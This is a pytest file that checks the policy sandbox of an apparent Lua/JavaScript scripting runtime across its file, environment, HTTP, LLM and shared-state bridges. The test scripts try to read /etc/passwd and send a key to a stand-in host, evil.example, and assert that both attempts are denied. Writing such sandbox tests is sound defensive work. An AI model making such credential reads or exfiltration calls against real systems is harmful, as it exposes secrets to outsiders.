"""Every method of the bridges fs, env and http, called from each language."""

from __future__ import annotations

import importlib.util
import re
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

from llmspell_core import plugins
from llmspell_core.bridge import exposed_methods
from llmspell_core.policy import Policy
from llmspell_core.runner import Runner

if TYPE_CHECKING:
    from collections.abc import Iterator

pytest.importorskip("httpcore2")

LANGUAGES = ("lua", "js")
FS = {
    "lua": """
fs.mkdir("box/a", {parents = true})
fs.write("box/a/t.txt", "one")
fs.append("box/a/t.txt", " two")
fs.write("box/a/b.bin", bytes("\\xff\\0"))
fs.write_json("box/a/v.json", {list = {1, null, "x"}}, {indent = 1})
local kept = fs.read("box/a/b.bin", {bytes = true})
local found = {
  fs.read("box/a/t.txt"), #kept, fs.read_json("box/a/v.json"), fs.exists("box/a/none"), fs.list("box/a"),
  fs.glob("box/**/*.json"), fs.stat("box/a/t.txt").size, fs.delete("box/a", {recursive = true}), fs.exists("box/a"),
}
local ok, e = pcall(fs.read, "box/none")
local out, d = pcall(fs.read, "/etc/passwd")
return {found, {ok, e.kind, e.data.reason}, {out, d.kind, d.data.flag}}
""",
    "js": """
await fs.mkdir("box/a", { parents: true });
await fs.write("box/a/t.txt", "one");
await fs.append("box/a/t.txt", " two");
await fs.write("box/a/b.bin", new Uint8Array([255, 0]));
await fs.writeJson("box/a/v.json", { list: [1, null, "x"] }, { indent: 1 });
const kept = await fs.read("box/a/b.bin", { bytes: true });
const found = [
  await fs.read("box/a/t.txt"), kept.length, await fs.readJson("box/a/v.json"), await fs.exists("box/a/none"),
  await fs.list("box/a"), await fs.glob("box/**/*.json"), (await fs.stat("box/a/t.txt")).size,
  await fs.delete("box/a", { recursive: true }), await fs.exists("box/a"),
];
let missing, out;
try { await fs.read("box/none") } catch (e) { missing = [false, e.kind, e.data.reason] }
try { await fs.read("/etc/passwd") } catch (d) { out = [false, d.kind, d.data.flag] }
return [found, missing, out];
""",
}
ENV = {
    "lua": """
local ok, e = pcall(env.get, "SHELL_OF_MINE")
return {env.get("COLOUR"), env.get("COLOUR_OF_NONE", {default = "grey"}), ok, e.data.flag}
""",
    "js": """
let flag;
try { await env.get("SHELL_OF_MINE") } catch (e) { flag = e.data.flag }
return [await env.get("COLOUR"), await env.get("COLOUR_OF_NONE", { default: "grey" }), false, flag];
""",
}
HTTP = {
    "lua": """
local url = params.url .. "/echo"
local sent = {}
for _, method in ipairs({"get", "post", "put", "patch", "delete"}) do
  local r = http[method](url, {headers = {["X-Mine"] = "yes"}, query = {q = 1}, json = {a = 1}, timeout = 20})
  sent[#sent + 1] = {r.status, r.ok, r.json.method, r.json.headers["x-mine"], r.json.query[1][2], r.json.body}
end
local r = http.request{method = "PUT", url = url, body = "text", auth = {bearer = "t"}, retries = 1}
local raw = http.get(params.url .. "/none", {bytes = true})
local ok, e = pcall(http.get, "http://evil.example/?key=hush")
local asked, kind = r.json, r.headers["content-type"]
return {sent, asked.body, asked.headers.authorization, raw.status, #raw.bytes, kind, e.kind, e.data.flag}
""",
    "js": """
const url = params.url + "/echo";
const sent = [];
for (const method of ["get", "post", "put", "patch", "delete"]) {
  const r = await http[method](url, { headers: { "X-Mine": "yes" }, query: { q: 1 }, json: { a: 1 }, timeout: 20 });
  sent.push([r.status, r.ok, r.json.method, r.json.headers["x-mine"], r.json.query[0][1], r.json.body]);
}
const r = await http.request({ method: "PUT", url, body: "text", auth: { bearer: "t" }, retries: 1 });
const raw = await http.get(params.url + "/none", { bytes: true });
let e;
try { await http.get("http://evil.example/?key=hush") } catch (error) { e = error }
const [asked, kind] = [r.json, r.headers["content-type"]];
return [sent, asked.body, asked.headers.authorization, raw.status, raw.bytes.length, kind, e.kind, e.data.flag];
""",
}


@pytest.fixture
def web() -> Iterator[Any]:
    path = Path(__file__).parent.parent / "plugins/bridges/tests/web.py"
    spec = importlib.util.spec_from_file_location("llmspell_tests_web", path)
    assert spec is not None
    assert spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    with module.Web() as server:
        yield server


def cast(language: str, source: str, policy: Policy, **params: Any) -> Any:
    with Runner(policy=policy) as runner:
        return runner.cast(source, engine=language, params=params).unwrap()


@pytest.mark.parametrize("language", LANGUAGES)
def test_files(language: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    found = cast(language, FS[language], Policy.standard().allow("read:box", "write:box"))
    assert found == [
        ["one two", 2, {"list": [1, None, "x"]}, False, ["b.bin", "t.txt", "v.json"], ["box/a/v.json"], 7, True, False],
        [False, "file", "not_found"],
        [False, "denied", "--allow-read=/etc/passwd"],
    ]


@pytest.mark.parametrize("language", LANGUAGES)
def test_environment(language: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("COLOUR", "red")
    found = cast(language, ENV[language], Policy.standard().allow("env:COLOUR*"))
    assert found == ["red", "grey", False, "--allow-env=SHELL_OF_MINE"]


@pytest.mark.parametrize("language", LANGUAGES)
def test_web(language: str, web: Any) -> None:
    found = cast(language, HTTP[language], Policy.standard().allow(f"net:127.0.0.1:{web.port}"), url=web.url)
    methods = ("GET", "POST", "PUT", "PATCH", "DELETE")
    assert found == [
        [[200, True, method, "yes", "1", '{"a": 1}'] for method in methods],
        "text",
        "Bearer t",
        404,
        len("nothing here"),
        "application/json; charset=utf-8",
        "denied",
        "--allow-net=evil.example:80",
    ]


@pytest.mark.parametrize(("bridge", "sources"), [("fs", FS), ("env", ENV), ("http", HTTP)])
def test_no_method_is_left_out(bridge: str, sources: dict[str, str]) -> None:
    for name, method in exposed_methods(plugins.bridge_class(bridge)).items():
        spelled = {"lua": name, "js": re.sub(r"_(\w)", lambda found: found[1].upper(), name)}
        for language in LANGUAGES:
            called = rf'{bridge}\.{spelled[language]}\b|"{spelled[language]}"'
            assert re.search(called, sources[language]), (language, method)


@pytest.mark.parametrize("language", LANGUAGES)
def test_another_model_than_the_runs_has_to_be_granted(language: str) -> None:
    wait = "await " if language == "js" else ""
    source = f'return {wait}llm.chat("hi", {{model {"=" if language == "lua" else ":"} "openai:gpt-4o"}})'
    with Runner(model="demo", options={"llm": {"demo_pause": 0}}) as runner:
        refused = runner.cast(source, engine=language)
        demo = runner.cast(f'return {wait}llm.chat("hi")', engine=language)
        strict = runner.cast(f'return {wait}llm.chat("hi")', engine=language, policy=Policy.strict())
    assert refused.error is not None
    assert refused.error.data == {"capability": "llm:openai:gpt-4o", "flag": "--allow-llm=openai:gpt-4o"}
    assert demo.ok
    assert strict.error is not None
    assert strict.error.data == {"capability": "llm:demo", "flag": "--allow-llm=demo"}


@pytest.mark.parametrize("language", LANGUAGES)
def test_what_all_spells_share_has_to_be_granted(language: str) -> None:
    wait = "await " if language == "js" else ""
    options = '{scope = "shared"}' if language == "lua" else '{ scope: "shared" }'
    with Runner() as runner:
        own = runner.cast(f'{wait}state.set("a", 1); return {wait}state.get("a")', engine=language)
        refused = runner.cast(f'return {wait}state.get("a", {options})', engine=language)
        allowed = runner.cast(
            f'{wait}state.set("a", 2, {options}); return {wait}state.get("a", {options})',
            engine=language,
            policy=Policy.standard().allow("state:shared:a"),
        )
    assert (own.value, allowed.value) == (1, 2)
    assert refused.error is not None
    assert refused.error.data["flag"] == "--allow-state=read:shared:a"
